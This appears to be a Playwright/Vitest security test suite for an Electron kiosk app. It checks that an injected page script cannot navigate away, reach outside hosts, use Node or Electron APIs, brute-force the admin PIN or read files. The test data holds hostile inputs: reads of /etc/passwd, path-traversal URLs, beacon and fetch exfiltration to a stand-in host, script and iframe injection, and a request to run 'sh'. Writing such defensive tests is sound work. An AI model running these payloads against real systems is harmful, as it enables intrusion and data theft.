import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { electronFolder } from "@luot/shell/testing";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { buildKioskApp, groups, KioskInShell } from "../testing/KioskInShell.ts";

// What a script could try that has got into the kiosk's page: leave it, talk to others, reach the
// machine. The attempts are put there by the test; the page's own policy lets nobody else.

const hasElectron = electronFolder() !== null;
const SETTLE_MS = 200;
let kiosk: KioskInShell;
let page: Page;
/** A server that is not the hub, and what it was asked. */
let stranger: Server;
let asked: string[];

beforeAll(async () => {
  if (!hasElectron) return;
  buildKioskApp();
  stranger = createServer((request, reply) => {
    asked.push(request.url ?? "");
    reply.setHeader("access-control-allow-origin", "*").end("<p>stranger</p>");
  });
  await new Promise<void>((ready) => stranger.listen(0, "127.0.0.1", ready));
  kiosk = await KioskInShell.prepare();
  page = await kiosk.open();
  await kiosk.setUp(page);
});

afterAll(async () => {
  if (!hasElectron) return;
  await kiosk?.end();
  await new Promise((closed) => stranger.close(closed));
});

beforeEach(async () => {
  if (!hasElectron) return;
  asked = [];
  await page.evaluate(() => Object.assign(window, { isSamePage: true }));
});

function strangerUrl(): string {
  return `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
}

/** Runs an attempt as a script of the page, which may fail as it likes. */
async function attempt(script: string): Promise<void> {
  const code = script.replaceAll("HUB", kiosk.hub.url).replaceAll("STRANGER", strangerUrl());
  // Playwright's own scripts run in the page's world, past its policy on scripts alone.
  await page.evaluate(`void (async () => { ${code} })().catch(() => {})`);
  await page.waitForTimeout(SETTLE_MS);
}

/** How things stand, which no attempt may change. */
async function standing(): Promise<unknown> {
  const urls = await kiosk.app.evaluate(({ webContents }) =>
    webContents.getAllWebContents().map((contents) => contents.getURL()),
  );
  const isSamePage = await page.evaluate(() => "isSamePage" in window);
  return { urls, isSamePage, asked, isShown: await page.locator("#app-root").isVisible() };
}

const unchanged = { urls: ["app://luot/kiosk/"], isSamePage: true, asked: [], isShown: true };

const WORDS = ["hubUrl", "chooseHub", "findHubs", "admin", "desk", "devices"];

const LEAVING: readonly (readonly [string, string])[] = [
  ["a file", `location.href = "file:///etc/passwd"`],
  ["another host", `location.href = "STRANGER/"`],
  ["the hub's own pages", `location.href = "HUB/kiosk/"`],
  ["another screen of the app", `location.href = "app://luot/counter/"`],
  ["another host of the app's scheme", `location.replace("app://evil/kiosk/")`],
  ["a page in its address", `location.href = "data:text/html,<p>evil"`],
  ["the browser's pages", `location.href = "chrome://gpu"`],
  ["developer tools", `location.href = "devtools://devtools/bundled/inspector.html"`],
  ["its own source", `location.href = "view-source:app://luot/kiosk/"`],
  ["a mail program", `location.href = "mailto:a@example.com"`],
  ["a new window", `open("STRANGER/"); open("about:blank"); open("app://luot/kiosk/")`],
  ["a link to a new window", link(`target: "_blank"`)],
  ["a link", link("")],
  ["a download", link(`download: "evil.exe"`)],
  [
    "a form",
    `const form = document.createElement("form"); form.action = "STRANGER/"; form.method = "post";
     document.body.append(form); form.submit(); form.remove()`,
  ],
  [
    "a page that says so by itself",
    `const meta = document.createElement("meta"); meta.httpEquiv = "refresh";
     meta.content = "0;url=STRANGER/"; document.head.append(meta)`,
  ],
  ["its history", `history.back(); history.go(-2); history.forward()`],
  ["a moved window", `moveTo(500, 500); resizeTo(100, 100); blur()`],
  ["full screen", `await document.documentElement.requestFullscreen()`],
];

function link(more: string): string {
  return `const a = Object.assign(document.createElement("a"), { href: "STRANGER/", ${more} });
    document.body.append(a); a.click(); a.remove()`;
}

const TALKING: readonly (readonly [string, string])[] = [
  ["fetch", `await fetch("STRANGER/")`],
  ["fetch without an answer", `await fetch("STRANGER/", { mode: "no-cors", method: "POST" })`],
  ["an old request", `const x = new XMLHttpRequest(); x.open("GET", "STRANGER/"); x.send()`],
  ["a socket", `new WebSocket("STRANGER/".replace("http", "ws"))`],
  ["a beacon", `navigator.sendBeacon("STRANGER/", "secret")`],
  ["a picture", `new Image().src = "STRANGER/"`],
  ["events", `new EventSource("STRANGER/")`],
  [
    "a script",
    `const s = document.createElement("script"); s.src = "STRANGER/"; document.body.append(s)`,
  ],
  [
    "a style",
    `const l = Object.assign(document.createElement("link"), { rel: "stylesheet",
     href: "STRANGER/" }); document.head.append(l)`,
  ],
  [
    "a frame",
    `const f = document.createElement("iframe"); f.src = "STRANGER/"; document.body.append(f)`,
  ],
  [
    "a view of its own",
    `const v = document.createElement("webview"); v.src = "STRANGER/"; document.body.append(v)`,
  ],
  ["a worker", `new Worker("STRANGER/"); new SharedWorker("STRANGER/")`],
  ["a service", `await navigator.serviceWorker.register("STRANGER/")`],
];

describe.skipIf(!hasElectron)("a kiosk against a script in its page", () => {
  it.each(LEAVING)("does not leave its screen for %s", async (_name, script) => {
    await attempt(script);
    expect(await standing()).toEqual(unchanged);
  });

  it.each(TALKING)("does not talk to a stranger by %s", async (_name, script) => {
    await attempt(script);
    expect(await standing()).toEqual(unchanged);
  });

  it("runs no script that stands in the page or comes as text", async () => {
    const ran = await page.evaluate(async () => {
      const script = document.createElement("script");
      script.textContent = "window.isEvil = true";
      document.body.append(script);
      const button = document.createElement("button");
      button.setAttribute("onclick", "window.isEvil = true");
      button.click();
      const late = document.createElement("script");
      late.textContent = "setTimeout('window.isEvil = true')";
      document.body.append(late);
      await new Promise((wait) => setTimeout(wait, 100));
      return "isEvil" in window;
    });
    expect(ran).toBe(false);
  });

  it("shows no dialog of the system: no alert, no question, no printing", async () => {
    const words: string[] = [];
    page.on("console", (message) => words.push(message.text()));
    const answers = await page.evaluate(() => {
      alert("x");
      print();
      return confirm("x");
    });
    expect(answers).toBe(false);
    expect(words.filter((text) => /Ignored call to '(alert|print)\(\)'/u.test(text))).toHaveLength(
      2,
    );
    expect(await standing()).toEqual(unchanged);
  });

  it("has nothing of Node or of Electron, and a bridge of few words that can't be changed", async () => {
    const found = await page.evaluate(() => {
      const names = ["require", "process", "module", "Buffer", "global", "ipcRenderer", "electron"];
      const bridge = Reflect.get(window, "luotShell") as { hubUrl: string };
      const before = bridge.hubUrl;
      try {
        bridge.hubUrl = "http://evil";
        Object.assign(window, { luotShell: { hubUrl: "http://evil" } });
      } catch {
        // Frozen: it says so by throwing.
      }
      const after = (Reflect.get(window, "luotShell") as { hubUrl: string }).hubUrl;
      return {
        names: names.filter((name) => name in window),
        words: Object.keys(bridge),
        isKept: before === after,
      };
    });
    expect(found).toEqual({ names: [], words: WORDS, isKept: true });
  });

  it("does not go over to another hub, nor take what is no text", async () => {
    const answers = await page.evaluate(async (url) => {
      const { luotShell } = window as unknown as {
        luotShell: { chooseHub: (...args: unknown[]) => Promise<unknown> };
      };
      const refused = { ok: "refused" };
      const other = await luotShell.chooseHub(url);
      const odd = [[], [1], [{ toString: 1 }], [url, url], ["x".repeat(300)]];
      const rest = await Promise.all(
        odd.map((args) => luotShell.chooseHub(...args).catch(() => refused)),
      );
      return { other, rest };
    }, strangerUrl());
    expect(answers.other).toEqual({ ok: true, url: kiosk.hub.url });
    // The bridge hands on only the first argument, so too many are as good as one.
    expect(
      answers.rest.filter((answer) => (answer as { ok: unknown }).ok === "refused").length,
    ).toBe(4);
    await groups(page).first().waitFor();
  });

  it("is not let into the administrator's menu, however many PINs it tries", async () => {
    const answers = await page.evaluate(async () => {
      type Door = Record<"enter" | "wish" | "keepPin", (word: unknown) => Promise<unknown>>;
      const { admin } = Reflect.get(window, "luotShell") as { admin: Door };
      const tries = Array.from({ length: 20 }, (_, i) => admin.enter(String(500_000 + i)));
      const entered = (await Promise.all(tries)) as { code: string }[];
      return {
        codes: entered.map(({ code }) => code),
        close: await admin.wish({ kind: "close-app" }),
        keep: await admin.keepPin("739164"),
        odd: await admin.wish({ kind: "run", program: "sh" }).catch(() => "refused"),
      };
    });
    expect(answers).toEqual({
      codes: [
        ...Array.from({ length: 4 }, () => "wrong_pin"),
        ...Array.from({ length: 16 }, () => "wait"),
      ],
      close: { ok: false, code: "shut" },
      keep: { ok: false, code: "already_set" },
      odd: "refused",
    });
    expect(await standing()).toEqual(unchanged);
  });

  it("says nothing to the devices that a screen does not say, however much", async () => {
    const answered = await page.evaluate(async () => {
      const { devices } = Reflect.get(window, "luotShell") as {
        devices: {
          post: (message: unknown) => void;
          listen: (listener: (message: { readonly kind: string }) => void) => void;
        };
      };
      const id = "01890000-0000-7000-8000-000000000001";
      const send = { kind: "send", call: id, id, giveUpMs: 1_000, payload: {} };
      const ring: Record<string, unknown> = { kind: "watch" };
      ring["ring"] = ring;
      const folder = "/";
      const kinds = new Set<string>();
      devices.listen(({ kind }) => kinds.add(kind));
      for (const message of [
        { kind: "start", hubUrl: "http://evil", folder, printer: null, scanner: null },
        { kind: "ping" },
        { ...send, type: "kiosk:sync-offline" },
        { ...send, type: "device:health" },
        { kind: "watch", heap: "x".repeat(200_000) },
        ring,
        null,
      ])
        devices.post(message);
      for (let count = 0; count < 500; count += 1) devices.post({ kind: "watch" });
      await new Promise((wait) => setTimeout(wait, 1_500));
      const before = [...kinds];
      devices.post({ kind: "settings", call: id, version: 1 });
      await new Promise((wait) => setTimeout(wait, 1_500));
      return { before, after: [...kinds] };
    });
    expect(answered).toEqual({ before: ["state"], after: ["state", "settings"] });
    expect(await standing()).toEqual(unchanged);
    await groups(page).first().waitFor();
  });

  it("gives a frame in its page no bridge and no answer", async () => {
    const found = await page.evaluate(async () => {
      const frame = document.createElement("iframe");
      frame.srcdoc = "<p>foreign</p>";
      document.body.append(frame);
      await new Promise((wait) => setTimeout(wait, 200));
      const inner = frame.contentWindow;
      const has = inner !== null && "luotShell" in inner;
      frame.remove();
      return has;
    });
    expect(found).toBe(false);
  });

  it.each([
    ["its place", "new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))"],
    ["the camera", "navigator.mediaDevices.getUserMedia({ video: true })"],
    ["the microphone", "navigator.mediaDevices.getUserMedia({ audio: true })"],
    ["what is on the screen", "navigator.mediaDevices.getDisplayMedia()"],
    ["what was copied", "navigator.clipboard.readText()"],
    ["files of its own", "navigator.storage.persist().then((is) => is || Promise.reject())"],
    [
      "devices",
      "navigator.hid.requestDevice({ filters: [] }).then(([d]) => d ?? Promise.reject())",
    ],
    ["the keyboard", "navigator.keyboard.lock()"],
    ["MIDI", "navigator.requestMIDIAccess({ sysex: true })"],
    ["fonts of the machine", "queryLocalFonts().then(([f]) => f ?? Promise.reject())"],
    [
      "the right to notify",
      "Notification.requestPermission().then((w) => w === 'granted' || Promise.reject())",
    ],
  ])("is not given %s", async (_name, script) => {
    expect(await page.evaluate(`${script}.then(() => "given", () => "refused")`)).toBe("refused");
  });

  it("reads no file but those of its screen", async () => {
    const statuses = await page.evaluate(() => {
      const paths = [
        "/kiosk/index.html",
        "/kiosk/../../../../etc/passwd",
        "/kiosk/%2e%2e/%2e%2e/package.json",
        "/kiosk/..%2f..%2fpackage.json",
        "/kiosk/.inputs",
        "/counter/index.html",
        "/etc/passwd",
      ];
      return Promise.all(paths.map(async (path) => (await fetch(path)).status));
    });
    expect(statuses).toEqual([200, 404, 404, 404, 404, 404, 404]);
  });

  it("is back when a script closes its window", async () => {
    const closed = page.waitForEvent("close");
    await page.evaluate(() => setTimeout(() => close()));
    await closed;
    await expect
      .poll(() => kiosk.sees('#app-root[data-seq] [data-testid^="group-"]'), { timeout: 15_000 })
      .toBe(true);
  });
});
